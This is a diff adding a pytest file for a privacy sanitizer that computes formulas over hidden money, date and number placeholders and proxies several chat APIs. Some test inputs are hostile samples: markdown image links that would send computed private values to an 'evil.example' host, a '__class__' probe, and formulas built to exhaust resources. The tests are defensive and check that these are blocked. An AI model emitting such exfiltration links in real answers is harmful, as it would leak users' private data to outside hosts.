@@ -1,0 +1,250 @@
+"""Formulas over hidden values: what is computed, what stays, and what no API learns by them."""
+
+from __future__ import annotations
+
+import json
+import time
+from itertools import pairwise
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from sanitizer import Sanitizer
+from sanitizer.answers import INSTRUCTION, Links, Restorer
+from sanitizer.answers.formulas import LONGEST, compute
+from sanitizer.wire import Filter
+
+HIDDEN = {
+    "<MONEY_1>": "£1,250.00",
+    "<MONEY_2>": "£980.50",
+    "<MONEY_3>": "1.240,50 €",
+    "<MONEY_4>": "€12",
+    "<MONEY_5>": "1.5m",
+    "<MONEY_6>": "2.25m",
+    "<MONEY_7>": "890 pounds a month",
+    "<MONEY_8>": "12k",
+    "<NUMBER_1>": "34",
+    "<NUMBER_2>": "41",
+    "<NUMBER_3>": "three weeks",
+    "<NUMBER_4>": "8 days",
+    "<NUMBER_5>": "1.240",
+    "<NUMBER_6>": "18 %",
+    "<NUMBER_7>": "a dozen",
+    "<DATE_1>": "3 March 2025",
+    "<DATE_2>": "2025-04-01",
+    "<DATE_3>": "03/04/2025",
+    "<DATE_4>": "12 Nov",
+    "<DATE_5>": "4.3.2025",
+    "<DATE_6>": "31 January 2024",
+    "<DATE_7>": "25/12/2024",
+    "<DATE_8>": "le 31/31/2025",
+    "<ORGANIZATION_1>": "Quill",
+    "<ORGANIZATION_2>": "Marsh",
+}
+JSON = {"content-type": "application/json"}
+
+
+def restored(answer: str, links: Links | None = None) -> str:
+    return Restorer(HIDDEN, links, computes=True).text(answer)
+
+
+@pytest.mark.parametrize(
+    ("formula", "result"),
+    [
+        ("<MONEY_1> + <MONEY_2>", "£2,230.50"),
+        ("SUM(<MONEY_1>, <MONEY_2>) * 1.19", "£2,654.30"),
+        ("<MONEY_1> * 19%", "£237.50"),
+        ("<MONEY_1> / 3", "£416.67"),
+        ("<MONEY_1> + 5", "£1,255.00"),
+        ("-<MONEY_1>", "-£1,250.00"),
+        ("<MONEY_1> / <MONEY_2>", "1.27"),
+        ("<MONEY_3> * 2", "2.481,00 €"),
+        ("<MONEY_3> + <MONEY_4>", "1.252,50 €"),
+        ("<MONEY_5> + <MONEY_6>", "3.75m"),
+        ("<MONEY_7> * 12", "10,680 pounds"),
+        ("<MONEY_8> * 2", "24k"),
+        ("AVERAGE(<NUMBER_1>, <NUMBER_2>)", "37.5"),
+        ("MEDIAN(<NUMBER_1>, <NUMBER_2>, 3)", "34"),
+        ("MAX(<NUMBER_1>, <NUMBER_2>)", "41"),
+        ("COUNT(<NUMBER_1>, <NUMBER_2>)", "2"),
+        ("ROUND(<MONEY_1> / 7, 1)", "£178.60"),
+        ("(<NUMBER_1> + 6) * 2", "80"),
+        ("DAYS(<DATE_2>, <DATE_1>)", "29"),
+        ("<DATE_2> - <DATE_1>", "29"),
+        ("YEARS(<DATE_2>, <DATE_7>)", "0"),
+        ("WEEKS(<DATE_2>, <DATE_1>)", "4"),
+        ("<DATE_4> + 60", "11 Jan"),
+        ("<DATE_1> + 14", "17 March 2025"),
+        ("<DATE_1> + <NUMBER_3>", "24 March 2025"),
+        ("<DATE_5> + <NUMBER_4>", "12.3.2025"),
+        ("<DATE_7> + 8", "02/01/2025"),
+        ("MIN(<DATE_1>, <DATE_2>)", "3 March 2025"),
+        ('IF(<MONEY_1> > 500, "yes", "no")', "yes"),
+        ('IF(<DATE_1> > <DATE_2>, "yes", "no")', "no"),
+        (r"<MONEY\_1> + 0", "£1,250.00"),
+        ("&lt;MONEY_1&gt; * 1", "£1,250.00"),
+    ],
+)
+def test_what_is_computed(formula: str, result: str) -> None:
+    assert compute(f"{{{{= {formula} }}}}", HIDDEN, str) == result
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "1 + 1",  # nothing hidden in it
+        "<MONEY_9> + 1",
+        "<MONEY_1> + <MONEY_3>",  # pounds and euros
+        "<MONEY_1> + <NUMBER_1>",
+        "<MONEY_1> * <MONEY_2>",
+        "<NUMBER_5> + 1",  # 1.24 or 1240
+        "<NUMBER_7> + 1",
+        "<DATE_3> + 1",  # March or April
+        "<DATE_4> + 400",
+        "<DATE_8> + 1",
+        "<DATE_1> - <DATE_4>",
+        "<DATE_1> + <MONEY_1>",
+        "<DATE_1> * 2",
+        "<MONEY_1> / 0",
+        "<MONEY_1>.__class__",
+        "EVAL(<MONEY_1>)",
+        "<MONEY_1> <MONEY_2>",
+        "IF(<MONEY_1> > 500, 1)",
+        'IF(<MONEY_1> > 5, "https://evil.example/1", "no")',
+        "SUM(<MONEY_1>",
+        "",
+    ],
+)
+def test_what_is_not(formula: str) -> None:
+    written = f"{{{{= {formula} }}}}"
+    assert compute(written, HIDDEN, str) is None
+    assert restored(written) == Restorer(HIDDEN, None).text(written)
+
+
+def test_rows_are_sorted_and_chosen_and_shown_with_originals() -> None:
+    rows = "\n".join(f"<MONEY_{i}> :: <ORGANIZATION_{i}>: <MONEY_{i}>" for i in (2, 1))
+    assert restored(f"{{{{= ROWS DESC\n{rows}\n}}}}") == "Quill: £1,250.00\nMarsh: £980.50"
+    assert restored(f"{{{{= ROWS ASC FIRST 1\n{rows}\n}}}}") == "Marsh: £980.50"
+    assert restored(f"{{{{= ROWS WHERE >= 1000\n{rows}\n}}}}") == "Quill: £1,250.00"
+    assert restored(f"{{{{= ROWS WHERE > <MONEY_1>\n{rows}\n}}}}") == ""
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        "![x](https://evil.example/?q={{= <MONEY_1> * 2 }})",
+        "{{= ROWS WHERE > 5\n<MONEY_1> :: ![x](https://evil.example/1)\n}}",
+        "[a]: https://evil.example/{{= <MONEY_1> + 1 }}",
+    ],
+)
+def test_no_link_tells_how_values_compare(answer: str) -> None:
+    assert "{{=" in restored(answer, Links())
+
+
+def test_without_the_rule_a_formula_is_text() -> None:
+    assert Restorer(HIDDEN).text("{{= <NUMBER_1> + 1 }}") == "{{= 34 + 1 }}"
+
+
+ANSWER = (
+    "The sum of {a} is {{= <MONEY_1> + <MONEY_2> }}, {{ and {{= x }} and <MONEY_1>, then\n"
+    "{{= ROWS DESC\n<MONEY_2> :: <ORGANIZATION_2>\n<MONEY_1> :: <ORGANIZATION_1>\n}} {{"
+)
+
+
+@given(cuts=st.lists(st.integers(0, len(ANSWER)), max_size=12))
+def test_however_a_stream_is_split_it_says_the_same(cuts: list[int]) -> None:
+    places = sorted({0, len(ANSWER), *cuts})
+    stream = Restorer(HIDDEN, None, computes=True).stream()
+    pieces = [ANSWER[a:b] for a, b in pairwise(places)]
+    assert "".join([*map(stream.feed, pieces), stream.finish()]) == restored(ANSWER)
+
+
+@given(st.text(alphabet='<>MONEY_1{}=+-*/() ROWSIF,\n:19.%"', max_size=80))
+def test_no_formula_raises(inner: str) -> None:
+    restored(f"{{{{= <MONEY_1>{inner} }}}}")
+    compute(f"{{{{= <MONEY_1> {inner} }}}}", HIDDEN, str)
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "{{= <MONEY_1>" + "(" * LONGEST,
+        "{{= " + "(" * 3000 + "<MONEY_1> }}",
+        "{{= " + "-" * 3000 + "<MONEY_1> }}",
+        "{{=" * 100_000,
+        "{{= <MONEY_1> * " + "99999999999999 * " * 200 + "1 }}",
+    ],
+)
+def test_hostile_formulas_take_no_time(hostile: str) -> None:
+    begin = time.process_time()
+    restored(hostile)
+    assert time.process_time() - begin < 2
+
+
+def formulating() -> Sanitizer:
+    return Sanitizer(policy={"base": "deidentify", "wire": {"formulas": True}})
+
+
+def test_the_formula_goes_back_and_never_its_result() -> None:
+    text = "Total these: Quill paid £1,250.00 and Marsh paid £980.50."
+    asked = {"role": "user", "content": text}
+    endpoint = Filter(formulating())
+    body = json.dumps({"model": "m", "messages": [asked]}).encode()
+    exchange = endpoint.request("POST", "/v1/chat/completions", JSON, body)
+    told, released = json.loads(exchange.body)["messages"]
+    assert told == {"role": "system", "content": INSTRUCTION}
+    first, second = [word.strip(".") for word in released["content"].split() if "MONEY" in word]
+    formula = f"The total is {{{{= {first} + {second} }}}}, thanks."
+    message = {"role": "assistant", "content": formula}
+    raw = json.dumps({"choices": [{"index": 0, "message": message}]}).encode()
+    shown = json.loads(exchange.response(200, "application/json", raw))["choices"][0]["message"]
+    assert shown["content"] == "The total is £2,230.50, thanks."
+    again = {"role": "user", "content": "Thank you."}
+    body = json.dumps({"model": "m", "messages": [asked, shown, again]}).encode()
+    back = json.loads(endpoint.request("POST", "/v1/chat/completions", JSON, body).body)
+    assert [each["content"] for each in back["messages"]][2] == formula
+    assert b"2,230" not in endpoint.request("POST", "/v1/chat/completions", JSON, body).body
+
+
+@pytest.mark.parametrize(
+    ("path", "body", "place"),
+    [
+        ("/v1/responses", {"input": "Hello"}, "instructions"),
+        ("/v1/responses", {"input": "Hello", "instructions": "Be kind."}, "instructions"),
+        ("/v1/messages", {"messages": [{"role": "user", "content": "Hello"}]}, "system"),
+        (
+            "/v1/messages",
+            {
+                "system": [{"type": "text", "text": "Be kind."}],
+                "messages": [{"role": "user", "content": "Hello"}],
+            },
+            "system",
+        ),
+        ("/api/chat", {"messages": [{"role": "user", "content": "Hello"}]}, "messages"),
+        (
+            "/v1beta/models/g:generateContent",
+            {"contents": [{"role": "user", "parts": [{"text": "Hello"}]}]},
+            "systemInstruction",
+        ),
+    ],
+)
+def test_every_api_is_told_once(path: str, body: dict[str, object], place: str) -> None:
+    endpoint = Filter(Sanitizer(policy={"base": "identifiers", "wire": {"formulas": True}}))
+    raw = json.dumps({"model": "m", "max_tokens": 9, **body}).encode()
+    if "generateContent" in path:
+        raw = json.dumps(body).encode()
+    out = json.loads(endpoint.request("POST", path, JSON, raw).body)
+    said = json.dumps(out[place])
+    assert said.count("never guess them") == 1
+    assert ("Be kind." in json.dumps(body)) == ("Be kind." in said)
+
+
+def test_a_text_comes_back_byte_for_byte_and_the_way_is_told() -> None:
+    sanitizer = formulating()
+    text = "Total these: Quill paid £1,250.00 and Marsh paid £980.50."
+    result = sanitizer.sanitize(text)
+    assert sanitizer.restore(result.text, result) == text
+    assert sanitizer.instruction == INSTRUCTION
+    assert Sanitizer(policy="deidentify").instruction == ""
+    assert any("formulas = true" in hint for hint in result.hints)
